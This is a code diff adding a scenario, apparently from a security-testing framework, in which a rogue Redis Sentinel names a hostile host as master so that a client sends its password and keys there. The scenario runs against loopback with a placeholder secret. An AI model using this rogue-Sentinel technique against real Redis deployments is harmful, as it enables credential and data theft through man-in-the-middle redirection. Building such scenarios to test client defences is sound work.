@@ -1,0 +1,48 @@
+"""C2 on redis: a Sentinel names the attacker's host as the master, and the client logs in there."""
+
+from typing import Any
+
+from backwatch.attack.authority import Authority
+from backwatch.attack.demo.services.redis import bulk
+from backwatch.attack.protocols.redis import Talk
+from backwatch.attack.protocols.server import LOOPBACK, HostileServer
+from backwatch.attack.scenarios import SECRET
+from backwatch.attack.scenarios.redis.moved import RedisMoved
+from backwatch.attack.techniques.redis_moved import Leading
+
+
+class _Sentinel(Leading):
+    def answer(self, verb: bytes, command: list[bytes], talk: Talk) -> bytes:
+        if verb != b"SENTINEL":
+            return super().answer(verb, command, talk)
+        host, port = (LOOPBACK, self.elsewhere.port) if self.hostile else ("localhost", self.port)
+        told = (
+            ("name", "shop"), ("ip", host), ("port", f"{port}"), ("flags", "master"), ("num-other-sentinels", "2"),
+            ("num-slaves", "0"), ("quorum", "2"),
+        )  # fmt: skip
+        state = b"".join(bulk(one.encode()) for pair in told for one in pair)
+        if talk.three:
+            return b"*1\r\n%%%d\r\n" % len(told) + state
+        return b"*1\r\n*%d\r\n" % (2 * len(told)) + state
+
+
+class RedisSentinelRogue(RedisMoved):
+    """The Sentinel and the master share a port here; the client believes whatever the first one says."""
+
+    code = "C2"
+    attack = "names, as a Sentinel, another host as the master, which is sent the password and the keys"
+    reference = "https://redis.io/docs/latest/operate/oss_and_stack/management/sentinel/; ATT&CK T1557"
+    notices = "nothing"
+
+    @classmethod
+    def service(cls, authority: Authority) -> HostileServer:
+        """Both in one."""
+        return _Sentinel(authority)
+
+    def client(self) -> Any:
+        """Of the library, over verified TLS."""
+        from redis.sentinel import Sentinel
+
+        tls: Any = {"ssl": True, "ssl_ca_certs": self.config.ca_file, "socket_timeout": 5}
+        sentinel: Any = Sentinel([("localhost", self.config.port)], sentinel_kwargs=tls, password=SECRET, **tls)
+        return sentinel.master_for("shop")
